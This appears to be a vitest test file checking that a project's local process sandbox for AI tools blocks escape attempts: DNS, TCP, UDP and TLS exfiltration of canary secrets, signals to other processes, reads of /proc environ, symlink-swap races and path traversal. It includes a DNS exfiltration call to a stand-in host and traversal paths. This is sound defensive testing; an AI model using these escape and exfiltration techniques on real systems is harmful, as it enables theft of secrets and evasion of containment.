// LocalProcessSandbox's in-process guards (defence in depth, not the boundary): every escape of
// issue 16 is refused. Each attack is first shown to work unguarded, in this process.
import dns from 'node:dns';
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalProcessSandbox } from '../../src/sandbox/index.js';
import type { AnyGovernedTool } from '../../src/tools/index.js';
import {
  attackJail,
  canary,
  runHostileTool,
  spawnVictim,
  startSwapRacer,
  type TcpTarget,
  tcpTarget,
  type UdpTarget,
  udpTarget,
  type Victim,
} from '../support/attack-targets.js';
import * as hostile from './fixtures/hostile-tools.js';

const { base, jail, outside } = attackJail('veridex-guards-');

let tcp: TcpTarget;
let udp: UdpTarget;
let victim: Victim;
const victimSecret = canary('victim');
beforeAll(async () => {
  tcp = await tcpTarget();
  udp = await udpTarget();
  victim = spawnVictim({ VERIDEX_VICTIM_SECRET: victimSecret });
});
afterAll(async () => {
  victim.stop();
  await tcp.close();
  await udp.close();
  rmSync(base, { recursive: true, force: true });
});

const sandbox = new LocalProcessSandbox({ jailRoot: jail, timeoutMs: 20_000 });
// The racing probes bound themselves (budgetMs): their sandbox's limits are far beyond, so a
// loaded machine shortens the race instead of stopping the call.
const racing = new LocalProcessSandbox({ jailRoot: jail, timeoutMs: 90_000, cpuMs: 90_000 });

async function attack(subject: AnyGovernedTool, arg: unknown) {
  const { result, securityEvents } = await runHostileTool(sandbox, subject, arg);
  return { result, violations: securityEvents };
}

/**
 * Runs a racing tool while a second process swaps `race/a` between a directory and a symlink
 * out of the jail; returns the tool's tally of outcomes.
 */
async function underSwapRace(
  subject: AnyGovernedTool,
  arg: unknown,
): Promise<Record<string, number>> {
  const racer = startSwapRacer(join(jail, 'race'), 'a', outside);
  try {
    await racer.started;
    const { result } = await runHostileTool(racing, subject, arg);
    expect(result, JSON.stringify(result)).toMatchObject({ status: 'success' });
    return JSON.parse((result as { output: { result: string } }).output.result);
  } finally {
    await racer.stop();
  }
}

/** Runs the tool's execute right here, with no sandbox: the attack as it works unguarded. */
function unguarded(subject: AnyGovernedTool, arg: unknown): Promise<unknown> {
  return subject.execute({
    input: { arg: JSON.stringify(arg) },
    secrets: { get: () => Promise.reject(new Error('none')) as never },
    idempotencyKey: 'k',
    signal: new AbortController().signal,
    context: {
      threadId: 't',
      toolCallId: 'c',
      runId: 't',
      proposalHash: '',
      approvedBy: [],
      metadata: {},
    },
    http: { fetch },
    fs: null as never,
  });
}

async function until(condition: () => boolean): Promise<void> {
  for (let waited = 0; !condition() && waited < 10_000; waited += 10) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe('LocalProcessSandbox guards', () => {
  it('refuses TCP with a custom lookup that maps an allowlisted name elsewhere', async () => {
    const secret = canary('tcp');
    await unguarded(hostile.lookupTcp, { port: tcp.port, secret: 'control' });
    await until(() => tcp.received().includes('control'));
    expect(tcp.received()).toContain('control');

    const { result, violations } = await attack(hostile.lookupTcp, { port: tcp.port, secret });
    expect(result).toMatchObject({ status: 'error', code: 'sandbox_violation' });
    expect(violations[0]!.payload).toMatchObject({
      violations: [expect.objectContaining({ reason: expect.stringMatching(/custom DNS lookup/) })],
    });
    expect(tcp.received()).not.toContain(secret);
  });

  it('refuses the same through tls.connect', async () => {
    const before = tcp.connections();
    const { result } = await attack(hostile.lookupTls, { port: tcp.port });
    expect(result).toMatchObject({ code: 'sandbox_violation' });
    expect(tcp.connections()).toBe(before);
  });

  it.each(['createSocket', 'constructor', 'raw-ip'])(
    'refuses UDP to a host off the allowlist (%s)',
    async (how) => {
      const secret = canary('udp');
      await unguarded(hostile.lookupUdp, { port: udp.port, secret: `control-${how}`, how });
      await until(() => udp.received().includes(`control-${how}`));
      expect(udp.received()).toContain(`control-${how}`);

      const { result } = await attack(hostile.lookupUdp, { port: udp.port, secret, how });
      expect(result).toMatchObject({ code: 'sandbox_violation' });
      expect(udp.received()).not.toContain(secret);
    },
  );

  it.each(['callback', 'promises', 'system'])(
    'refuses a DNS query that carries data (%s resolver)',
    async (how) => {
      // Unguarded, a resolver pointed at our listener delivers the query name to it.
      const control = new dns.Resolver({ timeout: 200, tries: 1 });
      control.setServers([`127.0.0.1:${udp.port}`]);
      control.resolveTxt('control.exfil.example', () => undefined);
      await until(() => udp.received().includes('control'));
      control.cancel();
      expect(udp.received()).toContain('control');

      const secret = canary('dns');
      const { result } = await attack(hostile.dnsExfiltrate, { port: udp.port, secret, how });
      expect(result).toMatchObject({ code: 'sandbox_violation' });
      expect(udp.received()).not.toContain(secret);
    },
  );

  it('refuses TCP straight to an IP address off the allowlist', async () => {
    const secret = canary('raw');
    const { result } = await attack(hostile.rawConnect, {
      host: '127.0.0.1',
      port: tcp.port,
      secret,
    });
    expect(result).toMatchObject({ code: 'sandbox_violation' });
    expect(tcp.received()).not.toContain(secret);
  });

  it.each(['kill', '_kill'])(
    'refuses signals (%s) to an unrelated process and to the parent',
    async (how) => {
      const { result, violations } = await attack(hostile.signal, { pid: victim.pid, how });
      expect(result).toMatchObject({ code: 'sandbox_violation' });
      expect(violations[0]!.payload).toMatchObject({
        violations: [expect.objectContaining({ capability: 'process' })],
      });
      expect(victim.alive()).toBe(true);
      expect((await attack(hostile.signal, { pid: process.pid, how })).result).toMatchObject({
        code: 'sandbox_violation',
      });
    },
  );

  it("cannot read any process's environment under /proc (the parent's secrets)", async () => {
    const { result } = await attack(hostile.readEnviron, '');
    expect(result).toMatchObject({ code: 'sandbox_violation' });
    expect(JSON.stringify(result)).not.toContain(victimSecret);
  });

  it('refuses a hard link planted in the jail through the injected fs', async () => {
    expect((await attack(hostile.readJailed, 'hard.txt')).result).toMatchObject({
      code: 'sandbox_violation',
    });
  });

  it('never reads outside the jail while a second process swaps a directory for a symlink', async () => {
    const seen = await underSwapRace(hostile.raceRead, {
      path: 'race/a/b/file.txt',
      rounds: 200_000,
      disturbed: 3_000,
      budgetMs: 5_000,
    });
    expect(seen.SECRET, JSON.stringify(seen)).toBeUndefined();
    expect(
      Boolean(seen.inside) && Object.keys(seen).some((outcome) => outcome !== 'inside'),
      JSON.stringify(seen),
    ).toBe(true);
  }, 120_000);

  it('never writes outside the jail while a second process swaps a directory for a symlink', async () => {
    const seen = await underSwapRace(hostile.raceWrite, {
      dir: 'race/a/b',
      rounds: 4_000,
      disturbed: 300,
      budgetMs: 5_000,
    });
    // Every write landed in the jail: nothing was planted beside the outside file.
    expect(readdirSync(join(outside, 'b')), JSON.stringify(seen)).toEqual(['file.txt']);
    expect(seen.written, JSON.stringify(seen)).toBeGreaterThan(0);
    expect(Object.keys(seen).some((outcome) => outcome !== 'written')).toBe(true);
  }, 120_000);

  it.each([
    ['oversized', 'closed'],
    ['garbage', 'closed'],
  ])('ends the fs channel of a child that sends a %s frame, and reports it', async (abuse) => {
    const { result, violations } = await attack(hostile.abuseFsChannel, abuse);
    expect((result as { output: { result: string } }).output.result).toBe('closed:');
    expect(JSON.stringify(violations)).toContain('fs channel');
  });

  it.each([
    ['absolute', '/etc/hostname'],
    ['traversal', '../outside/secret.txt'],
  ])('refuses an %s path sent straight to the fs channel', async (abuse, path) => {
    const { result, violations } = await attack(hostile.abuseFsChannel, abuse);
    const answer = (result as { output: { result: string } }).output.result;
    expect(answer.startsWith('open:')).toBe(true);
    const reply = JSON.parse(answer.slice('open:'.length));
    expect(reply).toMatchObject({ id: 7, ok: false, error: { code: 'sandbox_violation' } });
    expect(answer).not.toContain('SECRET');
    expect(violations[0]!.payload).toMatchObject({
      violations: [expect.objectContaining({ capability: 'fs', target: JSON.stringify(path) })],
    });
  });
});
